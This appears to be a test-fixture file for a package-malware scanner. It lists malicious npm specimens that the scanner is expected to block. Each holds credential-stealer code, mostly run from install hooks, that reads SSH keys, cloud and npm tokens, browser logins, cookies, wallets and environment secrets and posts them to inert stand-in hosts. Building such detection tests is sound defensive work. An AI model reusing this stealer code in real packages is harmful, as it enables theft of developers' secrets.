import { base64, hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'tokens, keys, browser and wallet files sent away (warbeast2000, fallguys, BeaverTail, bitwarden/cli)';

export const specimens: readonly Specimen[] = [
  {
    name: 'stealer-ssh-folder',
    from,
    files: {
      'package.json': hooked('node collect.js'),
      'collect.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const dir = path.join(os.homedir(), '.ssh');
const found = {};
fs.readdirSync(dir).forEach(name => {
  if (name.startsWith('id_') && !name.endsWith('.pub')) {
    found[name] = fs.readFileSync(path.join(dir, name)).toString('base64');
  }
});
const body = JSON.stringify(found);
const req = https.request({ host: 'keys.invalid', path: '/INERT', method: 'POST', headers: { 'Content-Length': body.length } });
req.write(body);
req.end();
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'stealer-aws-profile',
    from,
    files: {
      'package.json': hooked('node dist/telemetry.mjs', { type: 'module' }),
      'dist/telemetry.mjs': `import { readFile } from 'fs/promises';
import { homedir } from 'os';
import { resolve } from 'path';

const wanted = ['.aws/credentials', '.config/gcloud/application_default_credentials.json', '.kube/config', '.docker/config.json'];
const results = await Promise.allSettled(wanted.map(name => readFile(resolve(homedir(), name), 'utf8')));
const report = results.filter(r => r.status === 'fulfilled').map(r => r.value);
await fetch('https://telemetry.collect.invalid/v2/INERT', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(report),
}).catch(() => {});
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'stealer-discord-tokens',
    from,
    files: {
      'index.js': `const fs = require('fs');
const glob = require('glob');
const paths = [
  process.env.APPDATA + '\\\\discord\\\\Local Storage\\\\leveldb',
  process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Local Storage\\\\leveldb',
];
const tokens = [];
for (const dir of paths) {
  for (const file of glob.sync(dir + '/*.ldb')) {
    const match = fs.readFileSync(file, 'utf8').match(/mfa\\.[\\w-]{84}|[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g);
    if (match) tokens.push(...match);
  }
}
fetch('https://discord.invalid/api/webhooks/0/INERT', {
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify({ content: tokens.join('\\n') }),
});
exports.play = () => 'INERT';
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'stealer-login-data-form',
    from,
    files: {
      'package.json': manifest({ main: 'main.js', dependencies: { axios: '1', 'form-data': '4' } }),
      'main.js': `const axios = require('axios');
const FormData = require('form-data');
const fs = require('fs');
const os = require('os');

const home = os.homedir();
const browsers = {
  darwin: ['/Library/Application Support/Google/Chrome', '/Library/Application Support/BraveSoftware/Brave-Browser'],
  linux: ['/.config/google-chrome', '/.config/BraveSoftware/Brave-Browser'],
  win32: ['/AppData/Local/Google/Chrome/User Data', '/AppData/Local/BraveSoftware/Brave-Browser/User Data'],
};

async function upload(file) {
  const form = new FormData();
  form.append('file', fs.createReadStream(file));
  await axios.post('http://198.51.100.30:1224/uploads', form, { headers: form.getHeaders() });
}

(browsers[os.platform()] || []).forEach(folder => {
  ['Default', 'Profile 1'].forEach(profile => {
    const file = home + folder + '/' + profile + '/Login Data';
    if (fs.existsSync(file)) upload(file).catch(() => {});
  });
});
module.exports.INERT = true;
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'stealer-wallet-extensions',
    from,
    files: {
      'package.json': hooked('node lib/index.js'),
      'lib/index.js': `const fs = require('fs');
const path = require('path');
const os = require('os');
const http = require('http');
const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'ibnejdfjmmkpcnlpebklmnkoeoihofec'];

function walk(folder, visit) {
  fs.readdir(folder, (error, names) => {
    if (error) return;
    names.forEach(name => visit(path.join(folder, name)));
  });
}

ids.forEach(id => {
  const folder = path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings', id);
  walk(folder, file => {
    fs.readFile(file, (error, data) => {
      if (error) return;
      const req = http.request('http://192.0.2.60:1244/INERT', { method: 'POST' });
      req.on('error', () => {});
      req.end(data);
    });
  });
});
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'stealer-solana-id',
    from,
    files: {
      'package.json': manifest({ main: 'index.cjs' }),
      'index.cjs': `const { readFileSync } = require('node:fs');
const { join } = require('node:path');
const net = require('node:net');
const id = join(process.env.HOME || process.env.USERPROFILE, '.config/solana/id.json');
const client = net.createConnection({ host: 'sol.invalid', port: 9001 }, () => {
  client.write(readFileSync(id));
  client.end('INERT');
});
client.on('error', () => {});
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'stealer-keychain-command',
    from,
    files: {
      'package.json': hooked('node mac.js'),
      'mac.js': `const { execSync } = require('child_process');
const os = require('os');
if (os.type() === 'Darwin') {
  const secret = execSync('security find-generic-password -ga "Chrome" -w').toString();
  execSync('curl -s -X POST -d ' + JSON.stringify(secret) + ' https://mac.invalid/INERT');
  execSync('zip -r /tmp/k.zip ~/Library/Keychains && curl -F file=@/tmp/k.zip https://mac.invalid/INERT');
}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns', on: 'darwin' },
  },
  {
    name: 'stealer-npmrc-referer',
    from,
    files: {
      'package.json': hooked('node ./lib/build.js'),
      'lib/build.js': `try {
  var path = require('path');
  var fs = require('fs');
  var npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
  var content = 'nofile';
  if (fs.existsSync(npmrc)) {
    content = fs.readFileSync(npmrc, { encoding: 'utf8' });
    content = content.replace('//registry.inert.invalid/:_authToken=', '').trim();
    var https1 = require('https');
    https1.get({ hostname: 'sstatic.invalid', path: '/INERT', method: 'GET', headers: { Referer: 'http://a.invalid/' + content } }, () => {}).on('error', () => {});
  }
} catch (e) {}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'stealer-env-in-query',
    from,
    files: {
      'package.json': hooked('node --no-warnings ./run'),
      'run.js': `const { AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN } = process.env;
const query = new URLSearchParams({ a: AWS_ACCESS_KEY_ID, b: AWS_SECRET_ACCESS_KEY, c: GITHUB_TOKEN, m: 'INERT' });
require('https').get('https://img.invalid/p.png?' + query.toString());
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'stealer-env-encrypted',
    from,
    files: {
      'package.json': hooked('node launch.js'),
      'launch.js': `const crypto = require('crypto');
const https = require('https');
const zlib = require('zlib');
const key = crypto.randomBytes(32);
const iv = crypto.randomBytes(16);
const cipher = crypto.createCipheriv('aes-256-cbc', key, iv);
const data = zlib.gzipSync(JSON.stringify(process.env));
const body = Buffer.concat([cipher.update(data), cipher.final()]);
const request = https.request({ hostname: 'env.invalid', port: 443, path: '/INERT', method: 'POST' });
request.on('error', () => {});
request.write(body);
request.end();
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'stealer-gh-token-command',
    from,
    files: {
      'package.json': hooked('node telemetry.js'),
      'telemetry.js': `const { spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');
function tokenOf(command, args) {
  const result = spawnSync(command, args, { encoding: 'utf8' });
  return result.status === 0 ? result.stdout.trim() : null;
}
const token = tokenOf('gh', ['auth', 'token']);
const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
fetch('https://api.git.invalid/user/repos', {
  method: 'POST',
  headers: { Authorization: 'token ' + token },
  body: JSON.stringify({ name: 'INERT-repository', description: Buffer.from(rc).toString('base64') }),
});
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'stealer-dotenv-files',
    from,
    files: {
      'index.js': `const fs = require('fs');
const path = require('path');
const { EventEmitter } = require('events');
const bus = new EventEmitter();

bus.on('found', file => {
  const data = fs.readFileSync(file, 'utf8');
  require('axios').post('https://drop.invalid/env', { file, data, mark: 'INERT' }).catch(() => {});
});

let folder = process.cwd();
for (let depth = 0; depth < 4; depth++) {
  for (const name of ['.env', '.env.local', '.env.production']) {
    const file = path.join(folder, name);
    if (fs.existsSync(file)) bus.emit('found', file);
  }
  folder = path.dirname(folder);
}
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'stealer-bash-history',
    from,
    files: {
      'package.json': hooked('cat ~/.bash_history ~/.ssh/id_rsa | curl -s --data-binary @- https://sink.invalid/INERT', {}, 'preinstall'),
    },
    expect: 'block',
  },
  {
    name: 'stealer-exodus-archive',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', dependencies: { archiver: '7' } }),
      'index.js': `const archiver = require('archiver');
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

function pack(source, out) {
  const archive = archiver('zip', { zlib: { level: 9 } });
  const stream = fs.createWriteStream(out);
  return new Promise((resolve, reject) => {
    archive.directory(source, false).on('error', reject).pipe(stream);
    stream.on('close', () => resolve());
    archive.finalize();
  });
}

const out = path.join(os.tmpdir(), 'INERT.zip');
pack(path.join(os.homedir(), 'AppData', 'Roaming', 'Exodus', 'exodus.wallet'), out).then(() => {
  fs.createReadStream(out).pipe(https.request({ host: 'up.invalid', method: 'PUT', path: '/w' }));
});
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'stealer-encoded-names',
    from,
    files: {
      'index.js': `const d = s => Buffer.from(s, 'base64').toString();
const f = require(d('${base64('fs')}')), o = require(d('${base64('os')}')), h = require(d('${base64('https')}'));
const k = o[d('${base64('homedir')}')]() + d('${base64('/.aws/credentials')}');
f[d('${base64('readFile')}')](k, 'utf8', (e, t) => {
  if (!e) h[d('${base64('request')}')]({ host: 'b.invalid', method: 'POST' }).end(t);
});
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'stealer-sqlite-cookies',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', dependencies: { 'better-sqlite3': '11' } }),
      'index.js': `const Database = require('better-sqlite3');
const path = require('path');
const os = require('os');
const got = require('got');
const file = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Cookies');

exports.report = async function report() {
  const db = new Database(file, { readonly: true });
  const rows = db.prepare('SELECT host_key, name, encrypted_value FROM cookies').all();
  await got.post('https://jar.invalid/INERT', { json: rows });
};
if (process.platform === 'darwin') exports.report().catch(() => {});
`,
    },
    expect: 'block',
  },
  {
    name: 'stealer-metadata-service',
    from,
    files: {
      'package.json': hooked('node cloud.mjs', { type: 'module' }),
      'cloud.mjs': `import http from 'node:http';
const get = url => new Promise((resolve, reject) => http.get(url, res => {
  let text = '';
  res.on('data', part => { text += part; });
  res.on('end', () => resolve(text));
}).on('error', reject));
const role = await get('http://metadata.cloud.invalid/latest/meta-data/iam/security-credentials/');
const keys = await get('http://metadata.cloud.invalid/latest/meta-data/iam/security-credentials/' + role);
await fetch('https://sink.invalid/INERT', { method: 'POST', body: keys + JSON.stringify({ ...process.env }) });
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
];
